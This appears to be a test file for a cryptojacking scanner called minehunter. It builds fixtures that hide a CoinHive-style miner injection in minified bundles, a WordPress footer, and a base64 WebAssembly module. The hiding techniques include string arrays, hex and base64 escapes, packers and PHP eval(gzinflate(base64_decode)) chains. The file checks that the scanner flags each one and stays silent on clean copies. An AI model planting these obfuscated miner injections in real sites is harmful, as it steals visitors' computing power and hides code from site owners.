// The issue's scenarios end to end with minehunter's own rules: a CoinHive-style loader appended to
// a real minified bundle behind a string array, hex escapes and base64; a WordPress-like footer that
// echoes base64_decode(gzinflate(base64_decode(...))); a packed loader; look-alike services hidden
// by each remaining technique. Each is found with kind web-script, its technique chain and the
// decoded excerpt, while the same bundles and footer without the injection give nothing at medium
// or above, decoded layers included.
import { existsSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';
import { levelRank, type Level } from '../../model/finding.js';
import { ruleKind, ruleLevel } from '../rule-meta.js';
import { bundledRulesDir, compileRules, listRuleFiles, type YaraScanner } from '../yara.js';
import { normaliseWeb } from './normalise.js';
import { scanWebContent, type WebMatch } from './scan.js';
import {
  MINER_LOADER,
  b64,
  gzdeflate,
  hexEscape,
  obfuscatedLoader,
  pack,
  wasmExporting,
} from './test-helpers.js';
import type { WebHint } from './types.js';

const nodeModules = (p: string): string =>
  fileURLToPath(new URL(`../../../node_modules/${p}`, import.meta.url));

/** Real minified front-end bundles: zip.js is a dependency, the others come with the dev tools. */
const BUNDLES = [
  '@zip.js/zip.js/index.min.js',
  'ajv/dist/ajv.min.js',
  'js-yaml/dist/js-yaml.min.js',
  'esquery/dist/esquery.min.js',
  'prettier/plugins/typescript.js',
].filter((p) => existsSync(nodeModules(p)));
const MAIN_JS = '@zip.js/zip.js/index.min.js';

const INJECTION =
  '<script src="https://coinhive.com/lib/coinhive.min.js"></script>' +
  '<script>var miner = new CoinHive.Anonymous("SITE_KEY_0123456789", {throttle: 0.3}); miner.start();</script>';

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2l9 20H3z"/></svg>';

/** A theme footer as WordPress themes write it, with an inline SVG logo in a base64 data URI. */
function footer(extra = ''): string {
  return [
    '<?php',
    '/**',
    ' * The template for displaying the footer',
    ' *',
    ' * @package Example_Theme',
    ' */',
    '?>',
    '\t</div><!-- #content -->',
    '\t<footer id="colophon" class="site-footer">',
    '\t\t<div class="site-info">',
    `\t\t\t<img class="logo" alt="" src="data:image/svg+xml;base64,${b64(SVG)}" />`,
    "\t\t\t<a href=\"<?php echo esc_url( __( 'https://wordpress.org/', 'example' ) ); ?>\"><?php printf( esc_html__( 'Proudly powered by %s', 'example' ), 'WordPress' ); ?></a>",
    "\t\t\t<?php $icons = json_decode( base64_decode( get_theme_mod( 'social_icons', '' ) ), true ); ?>",
    '\t\t</div>',
    '\t</footer>',
    '</div><!-- #page -->',
    '<?php wp_footer(); ?>',
    extra,
    '</body>',
    '</html>',
    '',
  ].join('\n');
}

let scanner: YaraScanner;

beforeAll(() => {
  const { scanner: s, problems } = compileRules(listRuleFiles(bundledRulesDir()));
  expect(problems).toEqual([]);
  scanner = s;
}, 120_000);

function atLeast(m: WebMatch, level: Level): boolean {
  const l = ruleLevel(m.meta);
  return l !== undefined && levelRank(l) >= levelRank(level);
}

/** The matches that make the file a web-script finding: kind web-script, medium or above. */
function minerMatches(data: string | Buffer, hint: WebHint): WebMatch[] {
  const buf = typeof data === 'string' ? Buffer.from(data, 'latin1') : data;
  const result = scanWebContent(scanner, buf, hint);
  expect(result.bombs).toEqual([]);
  return result.matches.filter((m) => ruleKind(m.meta) === 'web-script' && atLeast(m, 'medium'));
}

/** Every rule that fires only after decoding carries its chain and a decoded excerpt. */
function expectDecodedFinding(matches: WebMatch[], chainPart: string, excerptPart: string): void {
  const decoded = matches.filter((m) => m.chain.length > 0);
  expect(decoded.length, 'a web-script match found in a decoded layer').toBeGreaterThan(0);
  for (const m of decoded) {
    expect(m.chain.join(' > ')).toContain(chainPart);
    expect(m.decodedExcerpt, m.rule).toBeDefined();
  }
  expect(decoded.some((m) => m.decodedExcerpt?.includes(excerptPart))).toBe(true);
}

describe('an obfuscated CoinHive-style loader appended to a real minified main.js', () => {
  const bundle = (): string => readFileSync(nodeModules(MAIN_JS), 'latin1');

  it.each([
    ['string array (checksum rotation) + hex escapes + base64', { style: 'checksum', rotation: 4 }],
    ['string array (literal rotation) + hex escapes + base64', { style: 'literal', rotation: 7 }],
    [
      'string array with base64-encoded items + base64 payload',
      { style: 'checksum', rotation: 1, encoding: 'base64' },
    ],
  ] as const)('is found behind a %s', (_name, opts) => {
    const mainJs = `${bundle()}\n${obfuscatedLoader(opts)}\n`;
    expect(scanner.scanBuffer(Buffer.from(mainJs, 'latin1'))).toEqual([]);
    const matches = minerMatches(mainJs, 'js');
    expect(matches.map((m) => m.rule)).toEqual(
      expect.arrayContaining(['MH_Web_CoinHive', 'MH_Web_CoinHive_Style_API']),
    );
    expectDecodedFinding(matches, 'js-string-array', 'new CoinHive.Anonymous("SITE_KEY_0123456789"');
    expect(matches.find((m) => m.rule === 'MH_Web_CoinHive')?.chain).toEqual(
      expect.arrayContaining(['js-string-array', 'atob']),
    );
  });
});

describe('a WordPress-like footer.php that echoes an injection', () => {
  it('is found through echo base64_decode(gzinflate(base64_decode(...)))', () => {
    const php = footer(
      `<?php echo base64_decode(gzinflate(base64_decode('${b64(gzdeflate(b64(INJECTION)))}'))); ?>`,
    );
    const matches = minerMatches(php, 'php');
    expect(matches.map((m) => m.rule)).toEqual(
      expect.arrayContaining([
        'MH_Web_CoinHive',
        'MH_Web_Injected_Miner_Script_Tag',
        'MH_Web_CoinHive_Style_API',
      ]),
    );
    expectDecodedFinding(
      matches,
      'php:echo(base64_decode(gzinflate(base64_decode)))',
      '<script src="https://coinhive.com/lib/coinhive.min.js">',
    );
  });

  it('is found through eval(gzinflate(base64_decode(...))), the eval itself named at medium', () => {
    const code = `echo '${INJECTION.replace(/'/g, "\\'")}';`;
    const php = footer(`<?php eval(gzinflate(base64_decode('${b64(gzdeflate(code))}'))); ?>`);
    const matches = minerMatches(php, 'php');
    expect(matches.find((m) => m.rule === 'MH_Web_PHP_Eval_Decode_Chain')?.chain).toEqual([]);
    expectDecodedFinding(matches, 'php:eval(gzinflate(base64_decode))', 'coinhive.min.js');
  });
});

describe('look-alike services hidden by one technique each', () => {
  const CRLT =
    "var miner = new CRLT.Anonymous('0123456789abcdef', {threads: 2, throttle: 0.2}); miner.start();";
  const COINIMP = `var _client = new Client.Anonymous('${'a1'.repeat(32)}', {throttle: 0, c: 'w'}); _client.start();`;
  const CLONE = "var m = new LeatMine.Anonymous('SITEKEY123', {throttle: 0.5}); m.start();";
  const NOTER = "<script src='https://www.cryptonoter.com/processor.js'></script>";
  const cases: [string, WebHint, string, string, string][] = [
    [
      'a p,a,c,k,e,d packer (CoinHive)',
      'html',
      `<html><script>${pack(MINER_LOADER)}</script></html>`,
      'js-packer',
      'CoinHive.Anonymous',
    ],
    [
      'String.fromCharCode (renamed clone)',
      'js',
      `eval(String.fromCharCode(${[...CLONE].map((c) => c.charCodeAt(0)).join(',')}));`,
      'fromCharCode',
      'LeatMine.Anonymous',
    ],
    [
      'HTML entities in document.write (Crypto-Loot)',
      'html',
      `<p>${[...`<script>${CRLT}</script>`].map((c) => `&#${c.charCodeAt(0)};`).join('')}</p>`,
      'html-entities',
      'CRLT.Anonymous',
    ],
    [
      'unescape percent-encoding (CoinImp)',
      'html',
      `<script>document.write(unescape('${[...`<script>${COINIMP}</script>`].map((c) => '%' + c.charCodeAt(0).toString(16).padStart(2, '0')).join('')}'));</script>`,
      'percent-encoding',
      'Client.Anonymous',
    ],
    [
      'hex escapes alone (CryptoNoter)',
      'js',
      `document.write("${hexEscape(NOTER)}");`,
      'js-escapes',
      'cryptonoter.com/processor.js',
    ],
    [
      'a base64 data: URI (CoinHive)',
      'html',
      `<iframe src="data:text/html;base64,${b64(INJECTION)}"></iframe>`,
      'base64',
      'coinhive.min.js',
    ],
  ];

  it.each(cases)('is found behind %s', (_name, hint, content, technique, excerpt) => {
    const matches = minerMatches(content, hint);
    expectDecodedFinding(matches, technique, excerpt);
  });

  it.each([
    ['a string constant', (w: string) => `const M='${w}';WebAssembly.instantiate(decode(M)).then(run);`],
    [
      'an atob call',
      (w: string) => `WebAssembly.instantiate(Uint8Array.from(atob('${w}'),c=>c.charCodeAt(0)));`,
    ],
  ])('finds a CryptoNight WebAssembly module embedded as base64 in %s', (_name, script) => {
    const matches = minerMatches(script(b64(wasmExporting('cryptonight_hash'))), 'js');
    const m = matches.find((x) => x.rule === 'MH_Web_Wasm_CryptoNight_Module');
    expect(m?.chain.at(-1)).toBe('base64-wasm');
    expect(m?.decodedExcerpt).toContain('asm');
  });
});

describe('clean twins', () => {
  it.each(BUNDLES)('%s gives nothing at medium or above, decoded layers included', (p) => {
    expect(BUNDLES).toContain(MAIN_JS);
    const data = readFileSync(nodeModules(p));
    const result = scanWebContent(scanner, data, 'js');
    expect(result.bombs).toEqual([]);
    expect(
      result.matches.filter((m) => atLeast(m, 'medium')).map((m) => `${m.rule} ${m.chain.join('>')}`),
    ).toEqual([]);
  });

  it('the footer without the injection gives nothing at medium or above', () => {
    const result = scanWebContent(scanner, Buffer.from(footer()), 'php');
    expect(result.matches.filter((m) => atLeast(m, 'medium'))).toEqual([]);
    // Its SVG logo was decoded and read, and is harmless.
    expect(normaliseWeb(Buffer.from(footer()), 'php').layers.map((l) => l.technique)).toEqual(['base64']);
  });
});

describe('cost', () => {
  it('normalises a 1 MB minified bundle well inside the time budget', () => {
    const parts = ['prettier/plugins/typescript.js', MAIN_JS].filter((p) => existsSync(nodeModules(p)));
    const data = Buffer.concat(parts.map((p) => readFileSync(nodeModules(p))));
    const result = normaliseWeb(data, 'js');
    expect(result.stopped).toBeUndefined();
    expect(result.ms).toBeLessThan(1500);
  });
});
